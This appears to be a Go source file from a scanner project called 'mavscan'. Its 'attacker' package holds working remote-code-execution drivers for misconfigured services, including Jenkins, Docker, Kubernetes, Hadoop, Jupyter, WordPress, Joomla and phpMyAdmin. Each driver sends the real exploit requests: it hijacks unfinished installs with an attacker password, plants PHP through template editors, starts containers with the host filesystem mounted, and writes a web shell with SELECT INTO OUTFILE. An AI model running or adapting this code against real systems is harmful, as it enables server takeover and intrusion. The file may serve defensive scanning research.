@@ -1,0 +1,307 @@
+package attacker
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+
+	"mavscan/internal/mav"
+)
+
+// driver carries out one real exploitation attempt against a target: the
+// same HTTP requests an attacker in the wild issues. command is the shell
+// command (or PHP/SQL payload) to run on the victim.
+type driver func(ctx context.Context, client *http.Client, base string, command string) error
+
+func post(ctx context.Context, client *http.Client, u string, contentType string, body string) (*http.Response, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, u, strings.NewReader(body))
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set("Content-Type", contentType)
+	return client.Do(req)
+}
+
+func discard(resp *http.Response) {
+	io.Copy(io.Discard, io.LimitReader(resp.Body, 64<<10))
+	resp.Body.Close()
+}
+
+func expect2xx(resp *http.Response, what string) error {
+	defer discard(resp)
+	if resp.StatusCode < 200 || resp.StatusCode >= 300 {
+		return fmt.Errorf("attacker: %s: status %d", what, resp.StatusCode)
+	}
+	return nil
+}
+
+func postForm(ctx context.Context, client *http.Client, u string, form url.Values) (*http.Response, error) {
+	return post(ctx, client, u, "application/x-www-form-urlencoded", form.Encode())
+}
+
+func postJSON(ctx context.Context, client *http.Client, u string, v interface{}) (*http.Response, error) {
+	var buf bytes.Buffer
+	if err := json.NewEncoder(&buf).Encode(v); err != nil {
+		return nil, err
+	}
+	return post(ctx, client, u, "application/json", buf.String())
+}
+
+// drivers maps each application to its exploitation procedure.
+var drivers = map[mav.App]driver{
+	mav.Jenkins: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		resp, err := postForm(ctx, c, base+"/scriptText", url.Values{"script": {cmd}})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "jenkins scriptText")
+	},
+	mav.GoCD: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		body := map[string]interface{}{
+			"pipeline": map[string]interface{}{
+				"name": "build",
+				"stages": []interface{}{map[string]interface{}{
+					"jobs": []interface{}{map[string]interface{}{
+						"tasks": []interface{}{map[string]string{"command": cmd}},
+					}},
+				}},
+			},
+		}
+		resp, err := postJSON(ctx, c, base+"/go/api/admin/pipelines", body)
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "gocd pipeline create")
+	},
+	mav.WordPress: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		// Install hijack: complete the installation with our own password,
+		// then use the admin panel's theme editor to plant PHP.
+		const pass = "attacker-pass-1337"
+		resp, err := postForm(ctx, c, base+"/wp-admin/install.php?step=2", url.Values{
+			"weblog_title": {"pwned"}, "user_name": {"admin"}, "admin_password": {pass},
+		})
+		if err != nil {
+			return err
+		}
+		if err := expect2xx(resp, "wordpress install"); err != nil {
+			return err
+		}
+		resp, err = postForm(ctx, c, base+"/wp-admin/theme-editor.php", url.Values{
+			"password": {pass}, "newcontent": {cmd},
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "wordpress theme editor")
+	},
+	mav.Grav: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		const pass = "attacker-pass-1337"
+		resp, err := postForm(ctx, c, base+"/admin", url.Values{"username": {"admin"}, "password": {pass}})
+		if err != nil {
+			return err
+		}
+		if err := expect2xx(resp, "grav create user"); err != nil {
+			return err
+		}
+		resp, err = postForm(ctx, c, base+"/admin/tools", url.Values{"password": {pass}, "template": {cmd}})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "grav template edit")
+	},
+	mav.Joomla: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		const pass = "attacker-pass-1337"
+		resp, err := postForm(ctx, c, base+"/installation/index.php", url.Values{
+			"site_name": {"pwned"}, "admin_user": {"admin"}, "admin_password": {pass},
+		})
+		if err != nil {
+			return err
+		}
+		if err := expect2xx(resp, "joomla install"); err != nil {
+			return err
+		}
+		resp, err = postForm(ctx, c, base+"/administrator/index.php", url.Values{
+			"password": {pass}, "template_source": {cmd},
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "joomla template edit")
+	},
+	mav.Drupal: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		resp, err := postForm(ctx, c, base+"/core/install.php", url.Values{
+			"account_name": {"admin"}, "account_pass": {"attacker-pass-1337"},
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "drupal install")
+	},
+	mav.Kubernetes: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		body := map[string]interface{}{
+			"apiVersion": "v1", "kind": "Pod",
+			"metadata": map[string]string{"name": "sys-upgrade"},
+			"spec": map[string]interface{}{
+				"containers": []interface{}{map[string]interface{}{
+					"name": "sys", "image": "alpine", "command": []string{"sh", "-c", cmd},
+				}},
+			},
+		}
+		resp, err := postJSON(ctx, c, base+"/api/v1/namespaces/default/pods", body)
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "k8s pod create")
+	},
+	mav.Docker: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		resp, err := postJSON(ctx, c, base+"/containers/create", map[string]interface{}{
+			"Image": "alpine:latest", "Cmd": []string{"sh", "-c", cmd},
+			"HostConfig": map[string]interface{}{"Binds": []string{"/:/mnt"}},
+		})
+		if err != nil {
+			return err
+		}
+		if err := expect2xx(resp, "docker create"); err != nil {
+			return err
+		}
+		resp, err = post(ctx, c, base+"/containers/f1d2d2f924e986ac86fdf7b36c94bcdf32beec15/start", "application/json", "")
+		if err != nil {
+			return err
+		}
+		discard(resp)
+		return nil
+	},
+	mav.Consul: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		body, _ := json.Marshal(map[string]interface{}{
+			"Name": "health", "Args": []string{"sh", "-c", cmd}, "Interval": "10s",
+		})
+		req, err := http.NewRequestWithContext(ctx, http.MethodPut, base+"/v1/agent/check/register", bytes.NewReader(body))
+		if err != nil {
+			return err
+		}
+		req.Header.Set("Content-Type", "application/json")
+		resp, err := c.Do(req)
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "consul check register")
+	},
+	mav.Hadoop: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		// Fetch an application id first, as the real Kinsing exploit does.
+		req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+"/ws/v1/cluster/apps/new-application", nil)
+		if err != nil {
+			return err
+		}
+		resp, err := c.Do(req)
+		if err != nil {
+			return err
+		}
+		discard(resp)
+		resp, err = postJSON(ctx, c, base+"/ws/v1/cluster/apps", map[string]interface{}{
+			"application-id":   "application_1623456789000_0001",
+			"application-name": "hive-job",
+			"am-container-spec": map[string]interface{}{
+				"commands": map[string]string{"command": cmd},
+			},
+			"application-type": "YARN",
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "hadoop app submit")
+	},
+	mav.Nomad: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		parts := strings.Fields(cmd)
+		command, args := "sh", []string{"-c", cmd}
+		if len(parts) == 1 {
+			command, args = parts[0], nil
+		}
+		resp, err := postJSON(ctx, c, base+"/v1/jobs", map[string]interface{}{
+			"Job": map[string]interface{}{
+				"ID": "batch-x", "Type": "batch",
+				"TaskGroups": []interface{}{map[string]interface{}{
+					"Tasks": []interface{}{map[string]interface{}{
+						"Name": "t", "Driver": "raw_exec",
+						"Config": map[string]interface{}{"command": command, "args": args},
+					}},
+				}},
+			},
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "nomad job submit")
+	},
+	mav.JupyterLab:      jupyterDriver,
+	mav.JupyterNotebook: jupyterDriver,
+	mav.Zeppelin: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		resp, err := postJSON(ctx, c, base+"/api/notebook", map[string]interface{}{
+			"name": "note", "paragraphs": []interface{}{map[string]string{"text": "%sh " + cmd}},
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "zeppelin note create")
+	},
+	mav.Polynote: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		resp, err := postJSON(ctx, c, base+"/ws", map[string]string{
+			"cell": "1", "code": fmt.Sprintf("import sys, os; os.system(%q)", cmd),
+		})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "polynote exec")
+	},
+	mav.Ajenti: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		resp, err := postForm(ctx, c, base+"/api/terminal/run", url.Values{"command": {cmd}})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "ajenti terminal")
+	},
+	mav.PhpMyAdmin: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		q := fmt.Sprintf("SELECT '%s' INTO OUTFILE '/var/www/html/sh.php'", cmd)
+		resp, err := postForm(ctx, c, base+"/import.php", url.Values{"sql_query": {q}})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "phpmyadmin sql")
+	},
+	mav.Adminer: func(ctx context.Context, c *http.Client, base, cmd string) error {
+		q := fmt.Sprintf("SELECT '%s' INTO OUTFILE '/var/www/html/sh.php'", cmd)
+		resp, err := postForm(ctx, c, base+"/adminer.php", url.Values{"query": {q}})
+		if err != nil {
+			return err
+		}
+		return expect2xx(resp, "adminer sql")
+	},
+}
+
+func jupyterDriver(ctx context.Context, c *http.Client, base, cmd string) error {
+	resp, err := post(ctx, c, base+"/api/terminals", "application/json", "")
+	if err != nil {
+		return err
+	}
+	if err := expect2xx(resp, "jupyter terminal create"); err != nil {
+		return err
+	}
+	resp, err = postJSON(ctx, c, base+"/api/terminals/1/input", map[string]string{"command": cmd})
+	if err != nil {
+		return err
+	}
+	return expect2xx(resp, "jupyter terminal input")
+}
+
+// Exploit runs the application-specific attack procedure.
+func Exploit(ctx context.Context, client *http.Client, app mav.App, base, command string) error {
+	d, ok := drivers[app]
+	if !ok {
+		return fmt.Errorf("attacker: no exploit driver for %s", app)
+	}
+	return d(ctx, client, base, command)
+}
